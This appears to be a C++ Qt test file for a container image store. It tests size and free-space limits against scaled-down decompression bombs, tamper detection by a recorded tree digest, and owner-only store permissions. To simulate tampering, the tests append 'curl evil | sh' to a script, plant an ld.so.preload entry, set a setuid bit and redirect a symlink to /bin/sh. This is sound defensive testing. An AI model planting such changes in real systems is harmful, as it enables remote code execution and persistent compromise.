// The store against a hostile image and a hostile neighbour: extraction limits (--max-size and the
// free-space floor, checked while extracting; nothing of a stopped import left), the recorded
// tree digest that `image verify` re-checks, and the owner-only modes of the store.
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <QTemporaryDir>
#include <QTest>
#include <filesystem>
#include <fstream>

#include "images/extract_limits.h"
#include "images/image_import.h"
#include "images/image_store.h"
#include "images/layer_tree_digest.h"
#include "images/layer_verify.h"
#include "support/image_builder.h"

using namespace juxta;
using namespace juxta::images;
using namespace juxta::testing;
namespace fs = std::filesystem;

namespace {

constexpr uint64_t kMiB = 1u << 20;

size_t entriesIn(const fs::path& dir) {
    std::error_code ec;
    if (!fs::exists(dir)) return 0;
    return size_t(std::distance(fs::directory_iterator(dir, ec), fs::directory_iterator()));
}

int modeOf(const fs::path& p) {
    struct stat st {};
    return ::lstat(p.c_str(), &st) == 0 ? int(st.st_mode & 07777) : -1;
}

uint64_t freeBytes(const fs::path& p) {
    struct statvfs vfs {};
    ::statvfs(p.c_str(), &vfs);
    return uint64_t(vfs.f_bavail) * vfs.f_frsize;
}

}  // namespace

class TestStoreIntegrity : public QObject {
    Q_OBJECT
    QTemporaryDir tmp_;
    fs::path root() const { return tmp_.path().toStdString(); }
    int n_ = 0;
    fs::path fresh(const char* what) { return root() / (what + std::to_string(++n_)); }

    // A small good lower layer and, on top, `files` files of `fileMiB` MiB of zeros, gzip'd
    // (a few hundred KiB that expand to files × fileMiB MiB).
    fs::path zeroBomb(int files, int fileMiB) {
        OciLayoutBuilder oci(fresh("bomb"));
        oci.addLayer(makeLayer({{"etc/", 'd', "", 0755}, {"etc/motd", 'f', "hi\n"}}));
        std::vector<TarEntry> big = {{"zeros/", 'd', "", 0755}};
        for (int i = 0; i < files; ++i)
            big.push_back(
                {"zeros/" + std::to_string(i), 'f', std::string(std::size_t(fileMiB) * kMiB, '\0')});
        oci.addLayer(makeLayer(big, Compression::Gzip));
        oci.write("example.org/bomb:1");
        return oci.dir();
    }

    // Nothing of a stopped import: no layer (not even its good lower one), no staging, no manifest.
    void assertNothingLeft(const ImageStore& store) {
        QCOMPARE(entriesIn(store.root() / "layers"), std::size_t(0));
        QCOMPARE(entriesIn(store.root() / "layer-digests"), std::size_t(0));
        QCOMPARE(entriesIn(store.root() / "tmp"), std::size_t(0));
        QCOMPARE(entriesIn(store.root() / "repositories"), std::size_t(0));
    }

  private slots:
    void sizesParse() {
        QCOMPARE(*parseByteSize("0", "x"), uint64_t(0));
        QCOMPARE(*parseByteSize("4096", "x"), uint64_t(4096));
        QCOMPARE(*parseByteSize("64M", "x"), 64 * kMiB);
        QCOMPARE(*parseByteSize("1G", "x"), uint64_t(1) << 30);
        QCOMPARE(*parseByteSize("2TiB", "x"), uint64_t(2) << 40);
        for (const char* bad : {"", "M", "-1", "1.5G", "12Q", "99999999999T"}) {
            auto r = parseByteSize(bad, "--max-size");
            QVERIFY2(!r.ok(), bad);
            QVERIFY(r.error().message().find("--max-size") != std::string::npos);
        }
    }

    // The bomb, scaled down: 24 MiB of zeros in a few dozen KiB of gzip, under --max-size
    // 20M (for the whole image): two files are written, the third stops it.
    void importStopsPastMaxSize() {
        const fs::path bomb = zeroBomb(3, 8);
        QVERIFY(fs::file_size(bomb / "index.json") > 0);
        ImageStore store(fresh("store"));
        ExtractLimits limits;
        limits.maxBytes = 20 * kMiB;
        auto r = importImage(store, bomb, "bomb", limits);
        QVERIFY(!r.ok());
        const std::string msg = r.error().message();
        qInfo("%s", msg.c_str());
        QCOMPARE(r.error().code(), EFBIG);
        QVERIFY2(msg.find("larger than the limit of 20.0 MiB uncompressed (--max-size") != std::string::npos,
                 msg.c_str());
        QVERIFY(msg.find('\n') == std::string::npos);
        assertNothingLeft(store);
        // The same image fits a limit it does not cross.
        QVERIFY2(msg.find("'zeros/2'") != std::string::npos, msg.c_str());
        limits.maxBytes = 64 * kMiB;
        auto ok = importImage(store, bomb, "bomb", limits);
        QVERIFY2(ok.ok(), message(ok));
    }

    // A docker-archive (the outer tar gzip'd) is bounded while it is unpacked, too.
    void archiveUnpackingStopsPastMaxSize() {
        const fs::path file = fresh("archive") += ".tar.gz";
        writeFile(file, makeTar({{"manifest.json", 'f', "[]"}, {"filler", 'f', std::string(40 * kMiB, '\0')}},
                                Compression::Gzip));
        ImageStore store(fresh("store"));
        ExtractLimits limits;
        limits.maxBytes = 8 * kMiB;
        auto r = importImage(store, file, "", limits);
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code(), EFBIG);
        assertNothingLeft(store);
    }

    // The floor is checked during extraction: each file must fit above it before it is written, and
    // statvfs is read again as data arrives. A floor 24 MiB under the free space now stops a
    // 128 MiB layer part way, whatever else this machine writes meanwhile (short of 100 MiB freed).
    void importStopsAtTheFreeSpaceFloor() {
        const fs::path bomb = zeroBomb(32, 4);
        ImageStore store(fresh("store"));
        fs::create_directories(store.root());
        ExtractLimits limits;
        limits.minFreeBytes = freeBytes(store.root()) - 24 * kMiB;
        auto r = importImage(store, bomb, "bomb", limits);
        QVERIFY(!r.ok());
        const std::string msg = r.error().message();
        qInfo("%s", msg.c_str());
        QCOMPARE(r.error().code(), ENOSPC);
        QVERIFY2(msg.find("would fall below its floor of") != std::string::npos, msg.c_str());
        QVERIFY2(msg.find("--min-free") != std::string::npos, msg.c_str());
        QVERIFY2(msg.find("layer 2 (") != std::string::npos, msg.c_str());  // stopped inside the big layer
        assertNothingLeft(store);
    }

    void limitsComeFromTheEnvironment() {
        qputenv("JUXTA_MAX_SIZE", "4M");
        qputenv("JUXTA_MIN_FREE", "0");
        auto limits = ExtractLimits::fromEnvironment();
        qunsetenv("JUXTA_MAX_SIZE");
        qunsetenv("JUXTA_MIN_FREE");
        QVERIFY(limits.ok());
        QCOMPARE(limits->maxBytes, 4 * kMiB);
        QCOMPARE(limits->minFreeBytes, uint64_t(0));
        QCOMPARE(ExtractLimits{}.minFreeBytes, uint64_t(1) << 30);  // the default floor
        qputenv("JUXTA_MIN_FREE", "lots");
        QVERIFY(!ExtractLimits::fromEnvironment().ok());
        qunsetenv("JUXTA_MIN_FREE");
    }

    // What `image verify` and `run --verify` rest on: a digest recorded at import that changes with
    // any content, mode, owner, link, added file or xattr, and not otherwise.
    void verifyNoticesEveryKindOfChange_data() {
        QTest::addColumn<QString>("change");
        for (const char* c :
             {"content", "truncate", "mode", "owner", "new-file", "removed", "symlink", "xattr"})
            QTest::newRow(c) << c;
    }

    void verifyNoticesEveryKindOfChange() {
        QFETCH(QString, change);
        const std::string c = change.toStdString();
        if (c == "owner" && geteuid() != 0) QSKIP("chown needs root");
        OciLayoutBuilder oci(fresh("img"));
        oci.addLayer(makeLayer({{"bin/", 'd', "", 0755},
                                {"bin/tool", 'f', "#!/bin/sh\necho tool\n", 0755},
                                {"bin/link", 'l', "", 0777, "tool"},
                                {"etc/", 'd', "", 0755},
                                {"etc/passwd", 'f', "root:x:0:0::/root:/bin/sh\n"}},
                               Compression::Zstd));
        oci.write("example.org/v:1");
        ImageStore store(fresh("store"));
        auto imported = importImage(store, oci.dir(), "v", ExtractLimits{});
        QVERIFY2(imported.ok(), message(imported));
        const Image& image = imported->image;
        const std::string id = image.layerIds[0];
        auto before = checkLayer(store, id);
        QVERIFY(before.ok());
        QCOMPARE(int(before->state), int(LayerState::Ok));
        QVERIFY(verifyImage(store, image).ok());

        const fs::path layer = store.layerDir(id);
        if (c == "content") std::ofstream(layer / "bin/tool", std::ios::app) << "curl evil | sh\n";
        if (c == "truncate") fs::resize_file(layer / "etc/passwd", 4);
        if (c == "mode") fs::permissions(layer / "bin/tool", fs::perms::set_uid, fs::perm_options::add);
        if (c == "owner") QCOMPARE(::lchown((layer / "etc/passwd").c_str(), 1000, 1000), 0);
        if (c == "new-file") std::ofstream(layer / "etc/ld.so.preload") << "/tmp/x.so\n";
        if (c == "removed") fs::remove(layer / "etc/passwd");
        if (c == "symlink") {
            fs::remove(layer / "bin/link");
            fs::create_symlink("/bin/sh", layer / "bin/link");
        }
        if (c == "xattr" && ::setxattr((layer / "bin/tool").c_str(), "user.planted", "1", 1, 0) < 0)
            QSKIP("this filesystem has no user xattrs");
        auto after = checkLayer(store, id);
        QVERIFY(after.ok());
        QCOMPARE(int(after->state), int(LayerState::Modified));
        auto refused = verifyImage(store, image);
        QVERIFY(!refused.ok());
        const std::string msg = refused.error().message();
        QVERIFY2(msg.find("layer " + id + " was modified since import") != std::string::npos, msg.c_str());
    }

    // The digest is a function of the tree: the same layer imported into two stores hashes the same,
    // and a layer whose record was lost is reported, not passed.
    void theTreeDigestIsCanonical() {
        OciLayoutBuilder oci(fresh("img"));
        oci.addLayer(makeLayer({{"b/", 'd', "", 0755},
                                {"b/z", 'f', "z"},
                                {"a", 'f', "a"},
                                {"b/y", 'l', "", 0777, "z"},
                                {"b/.wh..wh..opq", 'f'},
                                {".wh.gone", 'f'}}));
        oci.write("example.org/c:1");
        ImageStore one(fresh("store")), two(fresh("store"));
        auto a = importImage(one, oci.dir(), "c", ExtractLimits{});
        auto b = importImage(two, oci.dir(), "c", ExtractLimits{});
        QVERIFY2(a.ok() && b.ok(), a.ok() ? message(b) : message(a));
        const std::string id = a->image.layerIds[0];
        QCOMPARE(*one.recordedLayerDigest(id), *two.recordedLayerDigest(id));
        QCOMPARE(*layerTreeDigest(one.layerDir(id)), *one.recordedLayerDigest(id));
        fs::remove(one.root() / "layer-digests" / id);
        auto check = checkLayer(one, id);
        QCOMPARE(int(check->state), int(LayerState::Unrecorded));
        QVERIFY(!verifyImage(one, a->image).ok());
    }

    // Owner-only from the store root down to the layers; a layer keeps its image's own modes.
    void theStoreIsTheOwnersOnly() {
        OciLayoutBuilder oci(fresh("img"));
        oci.addLayer(
            makeLayer({{"tmp/", 'd', "", 01777}, {"etc/", 'd', "", 0755}, {"etc/motd", 'f', "hi\n"}}));
        oci.write("example.org/m:1");
        const fs::path storeRoot = fresh("store");
        fs::create_directories(storeRoot);
        fs::permissions(storeRoot,
                        fs::perms::all);  // a store left 0777 (an older Juxta, a umask) is tightened
        ImageStore store(storeRoot);
        auto r = importImage(store, oci.dir(), "m", ExtractLimits{});
        QVERIFY2(r.ok(), message(r));
        for (const char* dir : {"", "layers", "layer-digests", "repositories", "tmp"})
            QCOMPARE(modeOf(storeRoot / dir), 0700);
        QCOMPARE(modeOf(storeRoot / "repositories/m.json"), 0600);
        QCOMPARE(modeOf(storeRoot / "layer-digests" / r->image.layerIds[0]), 0600);
        QCOMPARE(modeOf(store.layerDir(r->image.layerIds[0]) / "tmp"), 01777);
    }

  private:
    template <typename T>
    static const char* message(const Result<T>& r) {
        return r.ok() ? "" : r.error().message().c_str();
    }
};

QTEST_GUILESS_MAIN(TestStoreIntegrity)
#include "test_store_integrity.moc"
